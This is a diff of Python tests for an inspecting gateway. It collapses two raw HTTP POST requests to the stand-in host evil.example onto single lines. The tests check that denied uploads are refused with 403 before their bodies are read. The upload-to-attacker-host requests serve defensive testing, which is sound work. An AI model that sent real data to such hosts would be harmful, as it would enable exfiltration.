@@ -206,9 +206,7 @@ def test_pipelined_requests_are_answered_in_order(inspect: Gateway, origin: Orig
 def test_a_denied_upload_is_refused_before_its_body_is_read(inspect: Gateway) -> None:
     before = inspect.rss_kib()
     with inspect.connect() as sock:
-        sock.sendall(
-            b"POST http://evil.example/up HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 300000000\r\n\r\n"
-        )
+        sock.sendall(b"POST http://evil.example/up HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 300000000\r\n\r\n")
         sock.sendall(b"x" * 100_000)
         reply = read_response(sock)
         assert reply.status == 403
@@ -220,9 +218,7 @@ def test_a_denied_upload_is_refused_before_its_body_is_read(inspect: Gateway) ->
 def test_a_refusal_is_not_overtaken_by_a_reset(inspect: Gateway) -> None:
     """The client may still be sending for a moment."""
     with inspect.connect() as sock:
-        sock.sendall(
-            b"POST http://evil.example/up HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 500000\r\n\r\n"
-        )
+        sock.sendall(b"POST http://evil.example/up HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 500000\r\n\r\n")
         for _ in range(20):
             sock.sendall(b"x" * 5000)
             time.sleep(0.005)
